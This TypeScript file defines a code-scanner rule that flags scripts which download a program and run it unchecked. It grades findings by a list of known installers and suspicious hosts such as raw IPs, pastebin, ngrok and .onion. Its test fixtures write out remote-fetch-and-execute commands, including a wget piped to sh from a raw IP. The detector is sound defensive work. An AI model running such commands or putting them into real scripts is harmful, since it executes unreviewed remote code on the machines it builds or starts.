import type { RiskLevel } from '../../../../core/review/risk.ts';
import type { Hit, Rule, SourceFile } from '../../../rule.ts';
import { findPlaces, toTextHit } from '../text-hit.ts';
import { holdsCommands, isInComment } from './command-text.ts';

const RUN = String.raw`(?:sudo\s{1,5}(?:-\w{1,3}\s{1,5})?)?(?:env\s{1,5}\S{1,60}\s{1,5})?(?:/bin/|/usr/bin/)?(?:ba|z|da|k)?(?:sh|python3?|node|perl|ruby|iex)\b`;
const PIPED = new RegExp(String.raw`\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\b(?:[^\n|;&]|\\\n){0,300}\|\s{0,10}${RUN}`, 'gi');
const SUBSTITUTED = /\b(?:ba|z|da|k)?sh\s{1,5}(?:-\w{1,4}\s{1,5})?(?:<\(|["']?\$\(|["']?`)\s{0,5}(?:curl|wget)\b[^\n]{0,300}|\b(?:eval|source|\.)\s{1,5}(?:<\(|["']?\$\(|["']?`)\s{0,5}(?:curl|wget)\b[^\n]{0,300}|\biex\s{0,5}\(?\s{0,5}(?:\(|irm\b|iwr\b|new-object)[^\n]{0,300}/gi;
const SAVED = /\b(?:curl|wget)\b[^\n]{0,300}\s-(?:o|O|-output)\s{0,3}(\S{1,100})[^\n]{0,200}(?:\n[^\n]{0,200}){0,2}?(?:chmod\s{1,5}(?:\+x|7\d\d|u\+x)\s{1,5}|(?:ba|z|da)?sh\s{1,5})\1/g;

/** Installers of widely used tools, by their makers' own instructions. */
const KNOWN_INSTALLER = /\/\/(?:bun\.sh|deno\.land|astral\.sh|sh\.rustup\.rs|(?:deb|rpm)\.nodesource\.com|get\.docker\.com|install\.python-poetry\.org|get\.pnpm\.io|raw\.githubusercontent\.com\/(?:nvm-sh|Homebrew|helm|golangci|anchore|aquasecurity)\/|get\.helm\.sh|cli\.github\.com|mise\.run|fnm\.vercel\.app|taskfile\.dev|aka\.ms|dl\.google\.com|apt\.llvm\.org|bootstrap\.pypa\.io|claude\.ai\/install)/i;
const SHADY = /http:\/\/(?!localhost|127\.|0\.0\.0\.0|\[::1\])|\/\/\d{1,3}(?:\.\d{1,3}){3}|pastebin|paste\.|transfer\.sh|ngrok|trycloudflare|\.onion|bit\.ly|tinyurl|raw\.githack|gist\.github|discord(?:app)?\.com\/attach|anonfiles|0x0\.st|\$\(\s{0,3}(?:echo|printf)/i;

function* check(file: SourceFile): Iterable<Hit> {
  if (!holdsCommands(file)) return;
  for (const pattern of [PIPED, SUBSTITUTED, SAVED]) {
    for (const place of findPlaces(file.text, pattern, 100)) {
      if (isInComment(file.text, place.index)) continue;
      yield toTextHit(file, place, { message: 'A program is fetched from the network and run as it comes.', severity: judge(place.match[0], pattern === SAVED) });
    }
  }
}

function judge(command: string, isSaved: boolean): RiskLevel {
  if (SHADY.test(command)) return 'high';
  if (KNOWN_INSTALLER.test(command)) return 'info';
  return isSaved ? 'low' : 'medium';
}

export const downloadAndRun: Rule = {
  id: 'script-download-and-run',
  title: 'A script that runs what it downloads',
  severity: 'high',
  why: 'What stands at the address today runs where the server is built or started, and was in no review.',
  mend: 'Fetch a fixed version, check its digest, and run it then; or take it from a package.',
  matches: [
    { path: 'install.sh', text: 'curl -fsSL https://x.example/install.sh | sudo bash', severity: 'medium' },
    { path: 'Dockerfile', text: 'FROM a\nRUN wget -qO- http://203.0.113.7/a.sh | sh', severity: 'high' },
    { path: 'start.sh', text: 'bash <(curl -s https://x.example/a.sh)', severity: 'medium' },
    { path: 'Dockerfile', text: 'FROM a\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh', severity: 'info' },
    { path: 'a.sh', text: 'wget https://x.example/tool -O /tmp/tool\nchmod +x /tmp/tool', severity: 'low' },
  ],
  ignores: [
    { path: 'README.md', text: 'curl -fsSL https://x.example/install.sh | bash' },
    { path: 'a.sh', text: '# curl https://x.example | sh\ncurl -s https://x.example/data.json | jq .name' },
    { path: 'a.sh', text: 'curl https://x.example/a.tgz | tar xz' },
  ],
  check,
};
